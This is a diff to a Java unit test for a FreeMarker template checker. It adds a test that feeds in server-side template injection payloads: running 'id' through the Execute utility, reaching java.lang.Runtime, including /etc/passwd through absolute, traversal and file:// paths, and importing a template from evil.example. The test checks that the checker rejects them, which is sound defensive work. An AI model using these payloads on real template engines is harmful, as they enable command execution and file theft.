@@ -10,6 +10,7 @@ import java.util.TreeMap;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.planpress.finding.Finding;
 import org.planpress.words.Language;
 import org.planpress.words.Voice;
@@ -48,6 +49,24 @@ class EndlessTemplatesTest {
                 .startsWith("templates/a.ftlh:" + place)
                 .contains(": error[template-error]: this ")
                 .contains(what);
+    }
+
+    /** Neither classes by their names, nor what lies behind a value, nor a template that is not one of the folder. */
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "${'freemarker.template.utility.Execute'?new()('id')}",
+                "${'freemarker.template.utility.ObjectConstructor'?new()('java.io.File', '/')}",
+                "<#assign a = 'x'?api.class>",
+                "${.data_model?api.class}",
+                "${'x'.class.forName('java.lang.Runtime')}",
+                "<#include '/etc/passwd'>",
+                "<#include '../../../../etc/passwd'>",
+                "<#include 'file:///etc/passwd'>",
+                "<#import 'http://evil.example/a.ftl' as a>",
+            })
+    void reachNoJava(String template) {
+        assertThat(faults(template)).isNotEmpty().allMatch(told -> told.startsWith("templates/a.ftlh:1:"));
     }
 
     @Test
